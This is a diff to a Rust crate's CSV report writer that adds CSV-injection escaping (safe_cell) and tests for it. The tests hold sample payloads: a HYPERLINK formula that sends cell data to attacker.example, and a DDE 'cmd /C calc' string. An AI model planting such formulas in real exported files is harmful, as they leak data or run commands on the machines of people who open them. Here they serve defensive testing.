@@ -1,5 +1,11 @@
 //! Reports as files: CSV (one row per scope) and JSON.
 //!
+//! Every text cell of a CSV this crate writes goes through [`safe_cell`]: a
+//! cell a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`,
+//! a tab, a carriage return or NUL) is written with a leading `'`, so an agency
+//! named `=HYPERLINK(...)` shows as text instead of a live link. Numbers, even
+//! negative ones, are written as they are.
+//!
 //! ```
 //! use cchc::io::report::{ReportRow, write_csv};
 //! use cchc::{ClockRule, OneStopReport, Period};
@@ -75,6 +81,46 @@ const RATES: [RateColumn; 7] = [
     ("online_payment_rate", OneStopReport::online_payment_rate),
 ];
 
+/// The characters that make a spreadsheet read a cell as a formula when they
+/// come first. OWASP's CSV-injection rule lists `=`, `+`, `-`, `@`, tab and
+/// carriage return; OWASP ASVS 5.0 requirement 1.2.10 adds NUL
+/// (<https://asvs.emil.hemdal.se/1.2.10>, a stored copy of the ASVS text; the
+/// OWASP CSV-injection page itself was not found in a stored copy).
+const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];
+
+/// Returns `cell` made safe to open in a spreadsheet: with a leading `'` when it
+/// starts with a character that would make it a formula (see the module
+/// documentation), unless it is a plain number such as `-5`, `+3` or `-1,5`,
+/// which a spreadsheet reads as a number, not a formula.
+///
+/// ```
+/// use cchc::io::report::safe_cell;
+/// assert_eq!(safe_cell("=HYPERLINK(\"http://x.example\")"), "'=HYPERLINK(\"http://x.example\")");
+/// assert_eq!(safe_cell("@SUM(A1)"), "'@SUM(A1)");
+/// assert_eq!(safe_cell("-5"), "-5");
+/// assert_eq!(safe_cell("-1,5"), "-1,5");
+/// assert_eq!(safe_cell("UBND tỉnh Quảng Nam"), "UBND tỉnh Quảng Nam");
+/// ```
+pub fn safe_cell(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some(first) if FORMULA_STARTS.contains(&first) && !is_plain_number(cell) => {
+            std::borrow::Cow::Owned(format!("'{cell}"))
+        }
+        _ => std::borrow::Cow::Borrowed(cell),
+    }
+}
+
+/// A sign, digits, and at most one decimal mark (`.` or `,`) followed by digits.
+fn is_plain_number(cell: &str) -> bool {
+    let unsigned = cell.strip_prefix(['-', '+']).unwrap_or(cell);
+    let (whole, fraction) = match unsigned.split_once(['.', ',']) {
+        Some((whole, fraction)) => (whole, Some(fraction)),
+        None => (unsigned, None),
+    };
+    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
+    digits(whole) && fraction.is_none_or(digits)
+}
+
 fn csv_error(e: ::csv::Error) -> Error {
     match e.into_kind() {
         ::csv::ErrorKind::Io(io) => Error::Io(io),
@@ -84,6 +130,8 @@ fn csv_error(e: ::csv::Error) -> Error {
 
 /// Writes reports as CSV: `scope, from, to, rule`, every count, then the rates in
 /// percent with four decimals (`.` as the decimal mark; empty when undefined).
+/// Every cell goes through [`safe_cell`], so a scope label cannot become a
+/// spreadsheet formula.
 ///
 /// # Errors
 /// [`Error::Io`] when writing fails.
@@ -109,7 +157,8 @@ pub fn write_csv(w: impl Write, rows: &[ReportRow]) -> Result<()> {
         record.extend(
             RATES.iter().map(|c| c.1(r).map(|x| format!("{:.4}", x.percent())).unwrap_or_default()),
         );
-        out.write_record(&record).map_err(csv_error)?;
+        out.write_record(record.iter().map(|cell| safe_cell(cell).into_owned()))
+            .map_err(csv_error)?;
     }
     out.flush()?;
     Ok(())
@@ -123,4 +172,46 @@ pub fn write_json(mut w: impl Write, rows: &[ReportRow]) -> Result<()> {
     serde_json::to_writer_pretty(&mut w, rows).map_err(std::io::Error::other)?;
     w.write_all(b"\n")?;
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::scope::Period;
+
+    fn csv_of(scope: &str) -> Vec<Vec<String>> {
+        let mut report = OneStopReport::empty(Period::year(2024).unwrap(), ClockRule::Restart);
+        report.received_online = 5;
+        let mut out = Vec::new();
+        write_csv(&mut out, &[ReportRow { scope: scope.to_owned(), report }]).unwrap();
+        ::csv::Reader::from_reader(out.as_slice())
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+            .collect()
+    }
+
+    /// Issue 13 item 6: the agency name found by the probe, and every other
+    /// formula start, comes out as text.
+    #[test]
+    fn a_formula_in_a_scope_label_is_written_as_text() {
+        let attack = r#"=HYPERLINK("http://attacker.example/?x="&A2,"x")"#;
+        let rows = csv_of(attack);
+        assert_eq!(rows[0][0], format!("'{attack}"));
+        for start in ["+", "-", "@", "\t", "\r", "\0"] {
+            let label = format!("{start}cmd|' /C calc'!A0");
+            assert_eq!(csv_of(&label)[0][0], format!("'{label}"), "{start:?}");
+        }
+        // The rest of the row is untouched: dates, rule and counts.
+        assert_eq!(&rows[0][1..5], ["2024-01-01", "2024-12-31", "restart", "5"]);
+    }
+
+    #[test]
+    fn numbers_and_ordinary_labels_are_left_alone() {
+        for cell in ["-5", "+3", "-1,5", "-0.25", "12", "UBND tỉnh Quảng Nam", "", "'=x"] {
+            assert_eq!(safe_cell(cell), cell, "{cell:?}");
+        }
+        for cell in ["-", "-1,5,3", "-1.", "--5", "-5e3", "- 5", "=1+1"] {
+            assert_eq!(safe_cell(cell), format!("'{cell}"), "{cell:?}");
+        }
+    }
 }
